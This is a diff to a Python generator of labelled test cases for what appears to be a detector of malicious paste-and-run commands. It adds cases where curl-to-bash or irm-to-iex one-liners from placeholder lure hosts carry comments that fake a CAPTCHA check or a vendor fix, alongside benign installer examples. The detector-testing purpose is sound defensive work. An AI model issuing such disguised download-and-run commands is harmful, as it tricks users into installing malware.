@@ -50,6 +50,9 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
 - `rare-lolbins`: App Installer's protocol fetching a package, App-V's script runner on a share,
   certreq posting to a web address, ftp reading commands from a share: `malicious` in the Run
   box from a stranger's page, `flagged` bare; their local uses: not flagged;
+- `comment-claims`: a download-and-run whose comment quotes a check page (reCAPTCHA, Turnstile,
+  "я не робот") or claims to be a company's fix, update or scan: `malicious` from a stranger's
+  page; a vendor's own installer with ordinary comments (platforms, what it updates): `info`;
 - `oauth-placeholder`: a documentation redirect whose code is cut short with `...`: not flagged;
   a real code: `flagged`.
 """
@@ -629,6 +632,38 @@ def rare_lolbin_cases() -> list[dict[str, str]]:
     return out
 
 
+def comment_claim_cases() -> list[dict[str, str]]:
+    comments = [
+        "# reCAPTCHA passed, session 7731",
+        "# Cloudflare Turnstile: ok",
+        "# Я не робот, код 7731",
+        "# Microsoft Defender quick scan",
+        "# Google Meet camera fix",
+        "# Zoom audio driver update",
+    ]
+    out = []
+    for n, comment in enumerate(comments, start=1):
+        host = LURE_HOSTS[n % len(LURE_HOSTS)]
+        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
+        text = (
+            f"irm https://{host}/c{n} | iex   {comment}"
+            if n % 2
+            else f"curl -fsSL https://{host}/c{n} | bash   {comment}"
+        )
+        out.append(case(f"rt-comment-claim-{n}", text, "malicious", "T1204.004", "any", page,
+                        "terminal"))  # fmt: skip
+    (page, script), _ = VENDORS
+    ok = [
+        f"curl -fsSL {script} | sh  # updates the CLI in place when already installed",
+        "irm https://get.kettlectl.dev/install.ps1 | iex  # Windows 11 and Windows Server 2022",
+    ]
+    out += [
+        case(f"rt-comment-claim-ok-{n}", text, "info", BENIGN, "any", page, "terminal")
+        for n, text in enumerate(ok, start=1)
+    ]
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
         page_disguise_cases()
@@ -647,6 +682,7 @@ def build() -> list[dict[str, str]]:
         + url_program_cases()
         + source_cases()
         + rare_lolbin_cases()
+        + comment_claim_cases()
     )
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
